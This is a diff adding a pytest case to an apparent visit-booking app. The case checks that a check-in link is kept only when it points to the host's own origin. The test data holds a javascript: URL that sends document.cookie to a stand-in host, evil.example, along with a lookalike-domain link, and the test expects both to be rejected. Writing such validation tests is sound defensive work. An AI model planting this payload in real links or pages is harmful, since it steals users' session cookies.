@@ -114,3 +114,22 @@ def test_the_answer_and_an_update_landing_at_once_hold_each_day_once(app, within
             assert apply_host_document(session.merge(host), update, stale) is not None
 
     assert within(_held, uid) == (2, VisitState.CONFIRMED, {MONDAY: DayStatus.BOOKED, TUESDAY: DayStatus.CANCELLED})
+
+
+@pytest.mark.parametrize(
+    ("link", "kept"),
+    [
+        ("http://127.0.0.1:9/checkin/abc", True),
+        ("javascript:fetch('//evil.example/?c='+document.cookie)//", False),
+        ("https://it-cork.example.evil/checkin/abc", False),
+        ("http://127.0.0.1:10/checkin/abc", False),
+    ],
+)
+def test_a_check_in_link_is_kept_only_on_the_hosts_own_origin(within, home_visit, link, kept):
+    """The link goes into the visitor's e-mail, calendar and QR code."""
+    host, uid = home_visit()
+    document = {**host_document(uid, 2, VisitState.CONFIRMED, {MONDAY: DayStatus.BOOKED}), "checkin_url": link}
+    document["days"] += [{"date": TUESDAY.isoformat(), "status": "booked"}]
+    within(lambda: apply_host_document(session.merge(host), document))
+    held = within(lambda: session.scalar(select(Visit).where(Visit.uid == uid)).resource["checkin_url"])
+    assert held == (link if kept else None)
